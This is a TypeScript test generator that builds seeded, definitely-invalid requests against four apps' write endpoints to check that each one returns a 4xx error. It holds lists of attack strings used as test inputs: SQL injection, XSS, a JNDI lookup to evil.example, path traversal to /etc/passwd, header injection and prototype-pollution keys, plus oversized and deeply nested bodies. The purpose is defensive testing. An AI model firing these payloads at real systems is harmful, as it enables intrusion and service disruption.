/**
 * A seeded generator of definitely-invalid requests against every write endpoint of the four apps
 * (test/e2e/bad-input.e2e-spec.ts). Each endpoint has a few valid base bodies and a map of its
 * fields; mutations change one thing so that the request breaks a rule of API.md or of the
 * endpoint's DTO, never into something the endpoint may accept (no "remove an optional field").
 * The same seed gives the same sequence of mutations.
 */
import { JOB_LIMITS } from '@laowu/contracts';
import { makeCreditCode } from '@laowu/domain';

export type AppKey = 'jobs' | 'workers' | 'matching' | 'dispatch';
export type RoleKey = 'agency' | 'station' | 'admin' | 'coordinator';

export const MUTATION_KINDS = [
  'wrong-type',
  'missing-required',
  'unknown-field',
  'huge-string',
  'huge-array',
  'deep-nesting',
  'broken-json',
  'wrong-content-type',
  'invalid-utf8',
  'injection',
  'nul-byte',
  'numeric-edge',
  'wrong-path',
] as const;
export type MutationKind = (typeof MUTATION_KINDS)[number];

/** What a correct answer to a malformed request looks like. */
export type Expectation =
  /** A 4xx error in the API's error shape (status among `statuses`). */
  | 'error'
  /** A bulk endpoint: a 4xx for the whole call, or 200 with a refused result for every item (isRefusedItem). */
  | 'error-or-bulk-item-errors';

/** A bulk item's result status that refuses it: a 4xx (POST /v1/jobs/bulk), `invalid` or `forbidden` (POST /v1/workers/bulk). */
export function isRefusedItem(status: unknown): boolean {
  return typeof status === 'number' ? status >= 400 && status < 500 : status === 'invalid' || status === 'forbidden';
}

export interface MalformedRequest {
  seq: number;
  endpoint: string;
  app: AppKey;
  role: RoleKey;
  kind: MutationKind;
  what: string;
  method: 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  /** undefined: no Content-Type header. */
  contentType?: string;
  extraHeaders?: Record<string, string>;
  body?: Buffer;
  expect: Expectation;
  statuses: number[];
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Obj = { [key: string]: Json };

type FieldKind =
  /** Free text: any string up to `max` characters (NUL refused: PostgreSQL text cannot hold it). */
  | { t: 'text'; max: number; notEmpty?: boolean; nulOk?: boolean; extra?: number[] }
  /** A string with a pattern or from a list (codes, enums, dates, ids, URLs). */
  | { t: 'code'; extra?: number[] }
  | { t: 'num'; min: number; max: number; int?: boolean; cny?: boolean }
  | { t: 'bool' }
  | { t: 'object' }
  | { t: 'array'; max?: number; unique?: boolean };

export interface EndpointSpec {
  app: AppKey;
  method: 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** With `:name` params. */
  template: string;
  role: RoleKey;
  /** Valid values of the path params. */
  params: Record<string, string>;
  /** Params that must be v4 UUIDs (a v1 UUID is then invalid too). */
  body: 'required' | 'optional' | 'none';
  bases?: Obj[];
  fields?: Record<string, FieldKind>;
  required?: string[];
  /**
   * A bulk endpoint: the items of the envelope's array `key` follow this spec and are checked one by
   * one; `envelope` lists wrong values of the envelope's other fields.
   */
  items?: { key: string; bases: Obj[]; fields: Record<string, FieldKind>; required: string[]; envelope?: Record<string, Json[]> };
  /** Largest body the app accepts. */
  bodyLimit: number;
  /** Statuses also right for a bad path param (403: a station id that is not the caller's, decided before the body is read). */
  pathExtra?: number[];
}

export const ERROR_STATUSES = [400, 413, 415, 422];
const PATH_STATUSES = [400, 414, 431];
const MB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Seeded randomness

export class Rng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0 || 1;
  }
  next(): number {
    // mulberry32
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(items: readonly T[]): T {
    if (!items.length) throw new Error('pick from nothing');
    return items[this.int(items.length)];
  }
}

// ---------------------------------------------------------------------------------------------
// Field walking

type Segment = string | number;

function keyOf(path: Segment[]): string {
  return path.reduce<string>((acc, s) => (typeof s === 'number' ? `${acc}[]` : acc ? `${acc}.${s}` : s), '');
}

function nodes(value: Json, path: Segment[] = []): Segment[][] {
  const out: Segment[][] = path.length ? [path] : [];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...nodes(v, [...path, i])));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) out.push(...nodes(v, [...path, k]));
  return out;
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

function getAt(root: Json, path: Segment[]): Json {
  return path.reduce<Json>((node, s) => (node as Record<string | number, Json>)[s as never], root);
}

function setAt(root: Json, path: Segment[], value: Json | undefined): void {
  const parent = getAt(root, path.slice(0, -1)) as Record<string | number, Json>;
  const last = path[path.length - 1];
  if (value === undefined) {
    if (Array.isArray(parent)) parent.splice(last as number, 1);
    else delete parent[last as string];
  } else parent[last as never] = value as never;
}

// ---------------------------------------------------------------------------------------------
// Raw text: values JSON.stringify cannot write (1e309, -0, huge integers, invalid UTF-8, deep nesting)

/** Serialises `body`, replacing sentinel strings by raw JSON text or raw bytes. */
class RawBody {
  private readonly raw = new Map<string, Buffer>();
  private n = 0;
  constructor(private readonly tag: string) {}

  /** A placeholder value that becomes `text` verbatim (outside quotes). */
  literal(text: string | Buffer): string {
    const key = `\u0001${this.tag}${this.n++}\u0001`;
    this.raw.set(JSON.stringify(key), Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8'));
    return key;
  }

  serialize(body: Json): Buffer {
    let buffer = Buffer.from(JSON.stringify(body), 'utf8');
    for (const [quoted, bytes] of this.raw) {
      const at = buffer.indexOf(quoted);
      if (at >= 0) buffer = Buffer.concat([buffer.subarray(0, at), bytes, buffer.subarray(at + Buffer.byteLength(quoted))]);
    }
    return buffer;
  }
}

// ---------------------------------------------------------------------------------------------
// Invalid values by kind of field

export const INJECTIONS = [
  "'; DROP TABLE jobs; --",
  "' OR '1'='1",
  '1 UNION SELECT password FROM pg_shadow',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '{{7*7}}',
  '%00',
  '\r\nSet-Cookie: hacked=1',
  '\u202e4403060', // RTL override
  '４４０３０６', // full-width digits
  '$where',
  '{"$gt": ""}',
  '\ud800', // lone surrogate (JSON.stringify writes it as \ud800)
  'Robert\u0000Tables',
];

const HUGE_INTS = ['123456789012345678901234567890', '9007199254740993', '-9007199254740993', '1e309', '-1e309', '1E400'];

function wrongTypes(kind: FieldKind, required: boolean, raw: RawBody): Json[] {
  const nullIfRequired: Json[] = required ? [null] : [];
  switch (kind.t) {
    case 'text':
      return [42, true, {}, ['text'], raw.literal('1e309'), ...nullIfRequired];
    case 'code':
      return [440306, 0, false, {}, [], ['440306'], ...nullIfRequired];
    case 'num':
      return [`${kind.min + 1}`, 'NaN', 'Infinity', '-0', true, [], [kind.max], {}, ...nullIfRequired];
    case 'bool':
      return ['true', 'false', 1, 0, [], {}, 'yes'];
    case 'object':
      // [] is not an object either: API.md's objects are objects.
      return ['object', 7, true, [], [{}], [1, 2], ...nullIfRequired];
    case 'array':
      return ['array', 5, true, { 0: 'a', length: 1 }, ...nullIfRequired];
  }
}

function numericEdges(kind: Extract<FieldKind, { t: 'num' }>, raw: RawBody): Json[] {
  const out: Json[] = HUGE_INTS.map((text) => raw.literal(text));
  out.push(raw.literal('-1e309'), 'NaN', 'Infinity', '-Infinity', '1e309');
  if (kind.max < 1e300) out.push(kind.max + 1, raw.literal(`${kind.max}.5e3`));
  out.push(kind.min - 1, raw.literal(`-${Math.abs(kind.min) + 1}e2`));
  if (kind.int) out.push(kind.min + 0.5, raw.literal(`${kind.min}.000001`), raw.literal('1e-7'));
  if (kind.min > 0) out.push(raw.literal('-0'), 0, raw.literal('0e0'));
  if (kind.cny) out.push(raw.literal('1e-7'), 0.001, raw.literal('100.005'));
  return out;
}

// ---------------------------------------------------------------------------------------------
// The generator

export interface GeneratorOptions {
  seed: number;
  /** Requests per structured mutation kind and endpoint (the other kinds scale from it). */
  perKind: number;
}

interface Draft {
  kind: MutationKind;
  what: string;
  body?: Buffer;
  contentType?: string;
  extraHeaders?: Record<string, string>;
  path?: string;
  expect?: Expectation;
  statuses?: number[];
}

const UNKNOWN_KEYS = ['unexpected', 'isAdmin', 'role', '__proto__', 'constructor', 'prototype', '$where', 'agencyId', 'filled', 'createdAt', '', ' ', 'tïtle', 'a'.repeat(300)];

export function generate(specs: Record<string, EndpointSpec>, options: GeneratorOptions): MalformedRequest[] {
  const rng = new Rng(options.seed);
  const out: MalformedRequest[] = [];
  for (const [endpoint, spec] of Object.entries(specs)) {
    const drafts = draftsFor(endpoint, spec, rng, options.perKind);
    for (const draft of drafts) {
      out.push({
        seq: out.length,
        endpoint,
        app: spec.app,
        role: spec.role,
        kind: draft.kind,
        what: draft.what,
        method: spec.method,
        path: draft.path ?? fillPath(spec.template, spec.params),
        contentType: draft.contentType,
        extraHeaders: draft.extraHeaders,
        body: draft.body,
        expect: draft.expect ?? 'error',
        statuses: draft.statuses ?? ERROR_STATUSES,
      });
    }
  }
  return out;
}

export function fillPath(template: string, params: Record<string, string>): string {
  return template.replace(/:(\w+)/g, (_, name: string) => {
    const value = params[name];
    if (value === undefined) throw new Error(`no value for :${name} in ${template}`);
    return value;
  });
}

function draftsFor(endpoint: string, spec: EndpointSpec, rng: Rng, perKind: number): Draft[] {
  const drafts: Draft[] = [];
  const json = 'application/json';
  const tag = endpoint.replace(/\W/g, '');
  const bases = spec.bases ?? [];
  const validBody = (): Buffer | undefined => (bases.length ? Buffer.from(JSON.stringify(rng.pick(bases))) : undefined);

  // Structured mutations of a valid body.
  if (spec.body !== 'none' && spec.fields && !spec.items) {
    const fields = spec.fields;
    const required = new Set(spec.required ?? []);
    const mutators = structuredMutators(rng, fields, required);
    const structured = (kind: MutationKind, count: number, mutate: (body: Obj, raw: RawBody) => string | undefined) => {
      let made = 0;
      for (let attempt = 0; made < count && attempt < count * 5; attempt++) {
        const raw = new RawBody(tag);
        const body = clone(rng.pick(bases));
        const what = mutate(body, raw);
        const extra = mutators.takeExtra();
        if (what === undefined) continue;
        drafts.push({ kind, what, body: raw.serialize(body), contentType: json, statuses: [...ERROR_STATUSES, ...extra] });
        made++;
      }
    };
    structured('wrong-type', perKind, mutators.wrongType);
    if (required.size) structured('missing-required', Math.ceil(perKind / 2), mutators.missing);
    structured('unknown-field', perKind, mutators.unknown);
    structured('injection', perKind, mutators.injection);
    structured('nul-byte', Math.ceil(perKind / 2), mutators.nul);
    if (Object.values(fields).some((f) => f.t === 'num')) structured('numeric-edge', perKind, mutators.numeric);
    structured('huge-string', 3, (body, raw) => mutators.hugeString(body, raw, 1.1 * MB));
    structured('huge-string', 1, (body, raw) => mutators.hugeString(body, raw, spec.bodyLimit + MB));
    structured('huge-array', 3, mutators.hugeArray);
    structured('invalid-utf8', Math.ceil(perKind / 2), mutators.invalidUtf8);
    // Deep nesting in a field (as the whole body below).
    for (const depth of [10_000, 50_000]) structured('deep-nesting', 1, (body, raw) => mutators.deep(body, raw, depth));
  }
  if (spec.items) {
    {
      // Bulk: the same mutations inside the items; each item must come back refused on its own.
      const item = spec.items;
      const key = item.key;
      const itemMutators = structuredMutators(rng, item.fields, new Set(item.required));
      const inItems = (kind: MutationKind, count: number, mutate: (body: Obj, raw: RawBody) => string | undefined) => {
        for (let i = 0; i < count; i++) {
          const raw = new RawBody(tag);
          const items: Obj[] = [];
          const whats: string[] = [];
          for (let n = 1 + rng.int(3), attempt = 0; items.length < n && attempt < 50; attempt++) {
            const one = clone(rng.pick(item.bases));
            const what = mutate(one, raw);
            if (what === undefined) continue;
            items.push(one);
            whats.push(what);
          }
          drafts.push({ kind, what: `${key}[*]: ${whats.join(' | ')}`, body: raw.serialize({ [key]: items }), contentType: json, expect: 'error-or-bulk-item-errors' });
        }
      };
      inItems('wrong-type', perKind, itemMutators.wrongType);
      inItems('missing-required', perKind, itemMutators.missing);
      inItems('unknown-field', perKind, itemMutators.unknown);
      inItems('injection', perKind, itemMutators.injection);
      inItems('nul-byte', Math.ceil(perKind / 2), itemMutators.nul);
      inItems('numeric-edge', perKind, itemMutators.numeric);
      inItems('huge-string', 2, (body, raw) => itemMutators.hugeString(body, raw, 1.1 * MB));
      inItems('huge-array', 2, itemMutators.hugeArray);
      inItems('deep-nesting', 2, (body, raw) => itemMutators.deep(body, raw, 10_000));
      inItems('invalid-utf8', Math.ceil(perKind / 2), itemMutators.invalidUtf8);
      // Envelope: empty, too many items.
      drafts.push({ kind: 'huge-array', what: `${key}: 1,001 items`, body: Buffer.from(JSON.stringify({ [key]: Array.from({ length: 1001 }, () => item.bases[0]) })), contentType: json });
      drafts.push({ kind: 'huge-array', what: `${key}: 200,000 empty objects`, body: Buffer.from(JSON.stringify({ [key]: Array.from({ length: 200_000 }, () => ({})) })), contentType: json });
      drafts.push({ kind: 'missing-required', what: `${key}: []`, body: Buffer.from(JSON.stringify({ [key]: [] })), contentType: json });
      drafts.push({ kind: 'missing-required', what: `without ${key}`, body: Buffer.from('{}'), contentType: json });
      for (const value of [key, 7, true, {}, null, { 0: item.bases[0] }]) {
        drafts.push({ kind: 'wrong-type', what: `${key} := ${JSON.stringify(value).slice(0, 40)}`, body: Buffer.from(JSON.stringify({ [key]: value })), contentType: json });
      }
      // Wrong values of the other envelope fields next to valid items: refused as a whole, or the items would be written.
      for (const [field, values] of Object.entries(item.envelope ?? {})) {
        for (const value of values) {
          drafts.push({ kind: 'wrong-type', what: `${field} := ${JSON.stringify(value)}`, body: Buffer.from(JSON.stringify({ [key]: item.bases, [field]: value })), contentType: json });
        }
      }
      // Unknown envelope fields next to valid items: likewise.
      for (const unknown of UNKNOWN_KEYS) {
        const body = `{${JSON.stringify(key)}:${JSON.stringify(item.bases)},${JSON.stringify(unknown)}:true}`;
        drafts.push({ kind: 'unknown-field', what: `unknown envelope field ${JSON.stringify(unknown.slice(0, 20))}`, body: Buffer.from(body), contentType: json });
      }
    }
  }
  if (spec.body !== 'none' && spec.method !== 'DELETE') {
    // Whole-body shapes that are not the endpoint's object.
    for (const text of ['[]', '[{}]', `[${JSON.stringify(bases[0] ?? {})}]`]) drafts.push({ kind: 'wrong-type', what: `body ${text.slice(0, 40)}`, body: Buffer.from(text), contentType: json });
  }

  // Bodies that are not JSON at all, or are broken: every endpoint (a body-less one gets `{}`-ish text).
  const baseText = bases.length ? JSON.stringify(rng.pick(bases)) : '{"reason":"sweep"}';
  for (let i = 0; i < Math.ceil(perKind * 0.75); i++) {
    const text = brokenJson(rng, bases.length ? JSON.stringify(rng.pick(bases)) : baseText);
    drafts.push({ kind: 'broken-json', what: `broken JSON: ${describeText(text)}`, body: Buffer.from(text, 'utf8'), contentType: json });
  }
  if (spec.body === 'required') drafts.push({ kind: 'missing-required', what: 'empty body (Content-Length: 0)', body: Buffer.alloc(0), contentType: json });
  for (const depth of [10_000, 100_000]) {
    drafts.push({ kind: 'deep-nesting', what: `body [[[…]]] ${depth} levels`, body: Buffer.from('['.repeat(depth) + ']'.repeat(depth)), contentType: json });
    drafts.push({ kind: 'deep-nesting', what: `body {"a":{"a":…}} ${depth} levels`, body: Buffer.from('{"a":'.repeat(depth) + '1' + '}'.repeat(depth)), contentType: json });
  }
  drafts.push({ kind: 'huge-string', what: `body over the limit (${spec.bodyLimit + MB} bytes)`, body: Buffer.from(`{"x":"${'y'.repeat(spec.bodyLimit + MB)}"}`), contentType: json });
  for (let i = 0; i < Math.ceil(perKind / 4); i++) {
    const bytes = rng.pick(INVALID_UTF8);
    const text = Buffer.from(baseText, 'utf8');
    const at = rng.pick(stringInteriorOffsets(text));
    drafts.push({ kind: 'invalid-utf8', what: `bytes ${bytes.toString('hex')} at offset ${at} of the body`, body: Buffer.concat([text.subarray(0, at), bytes, text.subarray(at)]), contentType: json });
  }
  if (spec.method !== 'DELETE') {
    // Non-JSON content types (the platform answers 415); DELETE bodies are not read.
    const plain = validBody() ?? Buffer.from(baseText);
    const types: [string | undefined, Buffer, Record<string, string>?][] = [
      ['text/plain', plain],
      ['text/plain; charset=utf-8', plain],
      ['application/x-www-form-urlencoded', Buffer.from('title=a&kind=gig&headcount=1')],
      ['multipart/form-data; boundary=xyz', Buffer.from('--xyz\r\nContent-Disposition: form-data; name="title"\r\n\r\na\r\n--xyz--\r\n')],
      ['application/xml', Buffer.from('<job><title>a</title></job>')],
      [undefined, plain],
      ['application/json; charset=latin1', plain],
      ['application/json; charset=utf-7', plain],
      ['application/json; charset=utf-16le', plain],
      ['application/json-patch+json', plain],
      ['application/vnd.api+json', plain],
      ['text/html', Buffer.from('<html><body>hi</body></html>')],
      ['application/octet-stream', Buffer.from([0, 1, 2, 3, 255])],
      ['json', plain],
      ['application/json', Buffer.from('not gzip at all'), { 'Content-Encoding': 'gzip' }],
      ['application/json', plain, { 'Content-Encoding': 'compress' }],
      ['application/json', plain, { 'Content-Encoding': 'br, zstd' }],
    ];
    for (const [contentType, body, extraHeaders] of types) {
      drafts.push({ kind: 'wrong-content-type', what: `Content-Type ${contentType ?? '(none)'}${extraHeaders ? ` ${JSON.stringify(extraHeaders)}` : ''}`, body, contentType, extraHeaders });
    }
  }

  // Path params.
  const paramNames = [...spec.template.matchAll(/:(\w+)/g)].map((m) => m[1]);
  if (paramNames.length) {
    const count = spec.body === 'none' ? perKind * 2 : perKind;
    for (let i = 0; i < count; i++) {
      const name = rng.pick(paramNames);
      const [value, what] = badPathValue(rng, spec.params[name]);
      const params = { ...spec.params, [name]: value };
      if (paramNames.length > 1 && rng.next() < 0.3) {
        const other = paramNames.find((p) => p !== name)!;
        params[other] = badPathValue(rng, spec.params[other])[0];
      }
      drafts.push({
        kind: 'wrong-path',
        what: `:${name} = ${what}`,
        path: fillPath(spec.template, params),
        body: validBody(),
        contentType: spec.body === 'none' ? undefined : json,
        statuses: [...PATH_STATUSES, ...(spec.pathExtra ?? [])],
      });
    }
  }
  return drafts;
}

function describeText(text: string): string {
  return JSON.stringify(text.length > 80 ? `${text.slice(0, 60)}…(${text.length} chars)` : text);
}

// ---------------------------------------------------------------------------------------------
// Structured mutators

function structuredMutators(rng: Rng, fields: Record<string, FieldKind>, required: Set<string>) {
  let extra: number[] = [];
  const kindOf = (path: Segment[]): FieldKind => {
    const key = keyOf(path);
    const kind = fields[key];
    if (!kind) throw new Error(`no field kind for ${key}`);
    return kind;
  };
  /** Statuses also right for the field just changed (e.g. 403 for a station id that is not the caller). */
  const touch = (path: Segment[]): void => {
    for (let i = 1; i <= path.length; i++) {
      const kind = fields[keyOf(path.slice(0, i))];
      if (kind && (kind.t === 'text' || kind.t === 'code') && kind.extra) extra.push(...kind.extra);
    }
  };
  const fieldsOf = (body: Obj, accept: (kind: FieldKind) => boolean) => nodes(body).filter((p) => accept(kindOf(p)));
  const isRequired = (path: Segment[]) => required.has(keyOf(path)) || typeof path[path.length - 1] === 'number';
  const objectsIn = (body: Obj): Segment[][] => [[], ...nodes(body).filter((p) => { const v = getAt(body, p); return !!v && typeof v === 'object' && !Array.isArray(v); })];
  const textish = (k: FieldKind) => k.t === 'text' || k.t === 'code';
  /** A second, certain problem for values a field may legally hold (injection text in free text). */
  const alsoBreak = (body: Obj): string => {
    const objects = objectsIn(body);
    const at = rng.pick(objects);
    (getAt(body, at) as Obj).sweepUnknownField = true;
    return ` + unknown field ${keyOf([...at, 'sweepUnknownField'])}`;
  };

  return {
    takeExtra(): number[] {
      const taken = extra;
      extra = [];
      return taken;
    },
    wrongType(body: Obj, raw: RawBody): string | undefined {
      const path = rng.pick(nodes(body));
      touch(path);
      const value = rng.pick(wrongTypes(kindOf(path), isRequired(path), raw));
      setAt(body, path, value);
      return `${keyOf(path)} := ${JSON.stringify(value)?.slice(0, 60)}`;
    },
    missing(body: Obj): string | undefined {
      const candidates = nodes(body).filter((p) => required.has(keyOf(p)));
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      setAt(body, path, undefined);
      return `without ${keyOf(path)}`;
    },
    unknown(body: Obj): string | undefined {
      const at = rng.pick(objectsIn(body));
      const key = rng.pick(UNKNOWN_KEYS);
      const target = getAt(body, at) as Obj;
      if (Object.prototype.hasOwnProperty.call(target, key) || fields[keyOf([...at, key])]) return undefined;
      const value = rng.pick<Json>([true, 1, 'x', null, {}, [], { admin: true }]);
      Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
      return `unknown field ${JSON.stringify(keyOf([...at, key]).slice(0, 40))} = ${JSON.stringify(value)}`;
    },
    injection(body: Obj): string | undefined {
      const candidates = fieldsOf(body, textish);
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      const kind = kindOf(path);
      const payload = rng.pick(INJECTIONS);
      touch(path);
      setAt(body, path, payload);
      // In free text an injection-looking string is a legal value: break the body elsewhere too.
      const also = kind.t === 'text' ? alsoBreak(body) : '';
      return `${keyOf(path)} := ${JSON.stringify(payload)}${also}`;
    },
    nul(body: Obj): string | undefined {
      const candidates = fieldsOf(body, (k) => k.t === 'code' || (k.t === 'text' && !k.nulOk));
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      const old = getAt(body, path);
      const base = typeof old === 'string' && old.length ? old : 'abc';
      const at = rng.int(base.length + 1);
      const value = `${base.slice(0, at)}\u0000${base.slice(at)}`;
      touch(path);
      setAt(body, path, value);
      return `${keyOf(path)} := ${JSON.stringify(value)}`;
    },
    numeric(body: Obj, raw: RawBody): string | undefined {
      const candidates = fieldsOf(body, (k) => k.t === 'num');
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      const kind = kindOf(path) as Extract<FieldKind, { t: 'num' }>;
      const value = rng.pick(numericEdges(kind, raw));
      setAt(body, path, value);
      return `${keyOf(path)} := ${JSON.stringify(value)}`;
    },
    hugeString(body: Obj, _raw: RawBody, size: number): string | undefined {
      const candidates = fieldsOf(body, textish);
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      touch(path);
      setAt(body, path, size > 2 * MB ? 'x'.repeat(size) : rng.pick(['x', '劳', 'é']).repeat(Math.ceil(size / 3)).padEnd(size, 'x'));
      return `${keyOf(path)} := ${size} characters`;
    },
    hugeArray(body: Obj): string | undefined {
      const arrays = fieldsOf(body, (k) => k.t === 'array');
      const present = arrays.filter((p) => (getAt(body, p) as Json[]).length > 0);
      if (present.length && rng.next() < 0.7) {
        const path = rng.pick(present);
        const kind = kindOf(path) as Extract<FieldKind, { t: 'array' }>;
        const item = (getAt(body, path) as Json[])[0];
        // Beyond the array's limit; a unique-item array without a limit gets one item repeated.
        const length = kind.max ? Math.max(kind.max + 1, 20_000) : kind.unique ? 20_000 : -1;
        if (length < 0) return undefined;
        setAt(body, path, Array.from({ length }, () => clone(item)));
        return `${keyOf(path)} := ${length} × ${JSON.stringify(item).slice(0, 40)}`;
      }
      const candidates = fieldsOf(body, (k) => k.t !== 'array' && k.t !== 'object');
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      setAt(body, path, Array.from({ length: 100_000 }, (_, i) => i));
      return `${keyOf(path)} := [0 … 99999]`;
    },
    deep(body: Obj, raw: RawBody, depth: number): string | undefined {
      const path = rng.pick(nodes(body));
      const shape = rng.pick(['object', 'array'] as const);
      const text = shape === 'object' ? '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) : '['.repeat(depth) + ']'.repeat(depth);
      setAt(body, path, raw.literal(text));
      return `${keyOf(path)} := ${shape === 'object' ? '{"a":{"a":…}}' : '[[[…]]]'} ${depth} levels`;
    },
    invalidUtf8(body: Obj, raw: RawBody): string | undefined {
      const candidates = fieldsOf(body, textish);
      if (!candidates.length) return undefined;
      const path = rng.pick(candidates);
      const bytes = rng.pick(INVALID_UTF8);
      touch(path);
      const old = getAt(body, path);
      const text = typeof old === 'string' && old.length ? old : 'abc';
      const at = rng.int(text.length + 1);
      // The value's own text around the raw bytes, quotes included.
      const quoted = Buffer.concat([Buffer.from(JSON.stringify(text.slice(0, at)).slice(0, -1)), bytes, Buffer.from(JSON.stringify(text.slice(at)).slice(1))]);
      setAt(body, path, raw.literal(quoted));
      return `${keyOf(path)} with bytes ${bytes.toString('hex')} inside`;
    },
  };
}

const INVALID_UTF8: Buffer[] = [
  Buffer.from([0xff]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0xc0, 0xaf]), // overlong '/'
  Buffer.from([0xe0, 0x80, 0xaf]), // overlong
  Buffer.from([0xed, 0xa0, 0x80]), // UTF-16 surrogate as UTF-8
  Buffer.from([0xe5, 0x8a]), // truncated 劳
  Buffer.from([0x80]), // lone continuation
  Buffer.from([0xf4, 0x90, 0x80, 0x80]), // beyond U+10FFFF
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]), // 5-byte form
  Buffer.from([0xc3]), // truncated é
];

/** Offsets inside string literals of a JSON text (after an opening quote). */
function stringInteriorOffsets(text: Buffer): number[] {
  const out: number[] = [];
  let inString = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inString) {
      if (c === 0x5c) i++;
      else if (c === 0x22) inString = false;
      else out.push(i);
    } else if (c === 0x22) {
      inString = true;
      out.push(i + 1);
    }
  }
  return out.length ? out : [0];
}

// ---------------------------------------------------------------------------------------------
// Broken JSON

function isJsonObjectOrArray(text: string): boolean {
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null;
  } catch {
    return false;
  }
}

const BROKEN_WHOLE = [
  '{',
  '}',
  '[',
  '{"a":}',
  '{"a" 1}',
  '{a:1}',
  "{'title':'a'}",
  '{"a":1,}',
  '[1,2,]',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":undefined}',
  '{"a":01}',
  '{"a":0x10}',
  '{"a":+1}',
  '{"a":.5}',
  '{"a":1.}',
  '{"a":"\\uZZZZ"}',
  '{"a":"\\x41"}',
  '{"a":"line\nbreak"}',
  '{"a":"tab\there"}',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '{"a":1 /* comment */}',
  '// comment\n{}',
  '"just a string"',
  '42',
  'null',
  'true',
  '  ',
  '\u0000',
  '{"a":"\\',
  '{"a":tru}',
  '{"__proto__":',
  '{"a":[1,2}',
  '{"a":{"b":1]}',
];

function brokenJson(rng: Rng, base: string): string {
  for (;;) {
    let text: string;
    switch (rng.int(6)) {
      case 0:
        text = rng.pick(BROKEN_WHOLE);
        break;
      case 1:
        text = base.slice(0, 1 + rng.int(base.length - 1)); // truncated
        break;
      case 2: {
        const at = rng.int(base.length);
        text = base.slice(0, at) + rng.pick(['"', ',', '}', ']', ':', '{', '\\', "'", '\u0007']) + base.slice(at);
        break;
      }
      case 3:
        text = base.replace(/:/, rng.pick(['=', ' ', '::', ':,']));
        break;
      case 4:
        text = base.replace(/"([A-Za-z]+)":/g, rng.next() < 0.5 ? '$1:' : "'$1':");
        break;
      default:
        text = base.replace(/}$/, rng.pick([',}', '}}', '} x', ',"":}']));
    }
    if (!isJsonObjectOrArray(text)) return text;
  }
}

// ---------------------------------------------------------------------------------------------
// Path params

const UUID_LIKE = '0c5e7b1e-3d7b-4f0e-9a6f-1b2c3d4e5f60';

function badPathValue(rng: Rng, valid: string): [string, string] {
  const options: [string, string][] = [
    ['abc', 'abc'],
    ['1', '1'],
    ['-1', '-1'],
    ['null', 'null'],
    ['undefined', 'undefined'],
    [valid.slice(0, -1), 'a UUID one character short'],
    [`${valid}a`, 'a UUID one character long'],
    [valid.replace(/[0-9a-f]$/, 'g'), 'a UUID with a non-hex digit'],
    [valid.replace(/-/g, ''), 'a UUID without dashes'],
    [encodeURIComponent(`{${valid}}`), 'a UUID in braces'],
    [encodeURIComponent(`urn:uuid:${valid}`), 'urn:uuid:…'],
    [encodeURIComponent(` ${valid}`), 'a UUID with a leading space'],
    [`${valid}%00`, 'a UUID and NUL'],
    ['%00', 'NUL'],
    [encodeURIComponent(`\u202e${valid}`), 'RTL override and a UUID'],
    [encodeURIComponent("' OR '1'='1"), "' OR '1'='1"],
    [encodeURIComponent('1; DROP TABLE jobs; --'), '1; DROP TABLE jobs; --'],
    [encodeURIComponent('<script>alert(1)</script>'), '<script>'],
    [encodeURIComponent('${jndi:ldap://evil.example/a}'), '${jndi:…}'],
    [encodeURIComponent('../../../../etc/passwd'), '../../../../etc/passwd (encoded)'],
    ['..%2F..%2F..%2Fetc%2Fpasswd', '..%2F..%2F… (encoded slashes)'],
    ['%ZZ', 'malformed percent-encoding %ZZ'],
    ['%E0%A4%A', 'truncated percent-encoding'],
    ['%C0%AF', 'overlong UTF-8 in percent-encoding'],
    ['%ED%A0%80', 'surrogate in percent-encoding'],
    ['%FF%FE', 'invalid UTF-8 in percent-encoding'],
    [encodeURIComponent('４４０３０６'), 'full-width digits'],
    [encodeURIComponent('😀'), 'emoji'],
    ['NaN', 'NaN'],
    ['1e309', '1e309'],
    [UUID_LIKE.replace(/-/g, '_'), 'underscores for dashes'],
    ['a'.repeat(1000), '1,000 characters'],
    ['a'.repeat(10_000), '10,000 characters'],
    ['b'.repeat(20_000), '20,000 characters (beyond the header limit)'],
    [`${valid}${'0'.repeat(5000)}`, 'a UUID and 5,000 zeros'],
  ];
  // A mutation written for UUIDs may leave another kind of value (a credit code, a region code) as it was.
  return rng.pick(options.filter(([value]) => value !== valid));
}

// ---------------------------------------------------------------------------------------------
// The write endpoints of the four apps, with valid bases

export interface SweepContext {
  runId: string;
  /** A job of the sweep's agency (PUT, close). */
  jobId: string;
  /** A worker of the sweep's station (PATCH, employment-status). */
  workerId: string;
  /** A planned batch of the sweep's coordinator, or a UUID nobody has. */
  batchId: string;
  /** A job dispatch knows as open: what a valid batch travels to. */
  openJobId: string;
  /** The sweep station's placement of its worker (direct hire, no job). */
  placementId: string;
